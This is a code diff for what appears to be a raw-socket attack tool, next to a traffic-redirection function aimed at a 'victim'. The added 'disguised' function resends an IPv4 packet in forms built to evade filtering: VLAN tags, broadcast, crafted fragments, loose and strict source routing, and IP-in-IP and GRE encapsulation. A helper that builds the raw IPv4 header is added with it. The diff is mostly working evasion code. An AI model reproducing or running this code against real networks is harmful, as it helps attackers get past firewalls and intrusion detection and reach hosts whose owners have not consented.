@@ -64,6 +64,35 @@ def redirect(link: str, router: str, victim: str, target: str, better: str) -> N
     send_frame(link, b"\xff" * 6, own, 0x0800, head + body)
 
 
+def disguised(link: str, hardware: str, packet: bytes, first_hop: str) -> None:
+    """The same packet (datagram, IPv4) in forms that a filter may overlook: with VLAN tags, to everybody, in fragments, inside another
+    packet, and by a route of its own choice from ``first_hop`` on (RFC 791)."""
+    own, target = (bytes.fromhex(one.replace(":", "")) for one in (hardware_address(link), hardware))
+    for tag in (0, 7):
+        send_frame(link, target, own, 0x8100, struct.pack("!HH", tag, 0x0800) + packet)
+    send_frame(link, b"\xff" * 6, own, 0x0800, packet)
+    source, destination, body = packet[12:16], packet[16:20], packet[20:]
+    hop = ip_address(first_hop).packed
+    for kind in (0x83, 0x89):
+        options = bytes((kind, 7, 4)) + destination + b"\0"
+        send_frame(link, target, own, 0x0800, _ipv4(source, hop, body, _UDP, options=options))
+    for offset, piece in ((0x2000, body[:8]), (1, body[8:])):
+        send_frame(link, target, own, 0x0800, _ipv4(source, destination, piece, _UDP, offset))
+    for protocol, head in ((4, b""), (47, struct.pack("!HH", 0, 0x0800))):
+        send_frame(link, target, own, 0x0800, _ipv4(source, hop, head + packet, protocol))
+
+
+def _ipv4(source: bytes, target: bytes, body: bytes, protocol: int, fragment: int = 0, options: bytes = b"") -> bytes:
+    words = 5 + len(options) // 4
+    head = (
+        struct.pack("!BBHHHBBH", 0x40 | words, 0, 4 * words + len(body), 77, fragment, 64, protocol, 0)
+        + source
+        + target
+        + options
+    )
+    return head[:10] + struct.pack("!H", _checksum(head)) + head[12:] + body
+
+
 def send_frame(link: str, target: bytes, source: bytes, kind: int, payload: bytes) -> None:
     """Put a frame on a link, with whatever hardware addresses."""
     with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
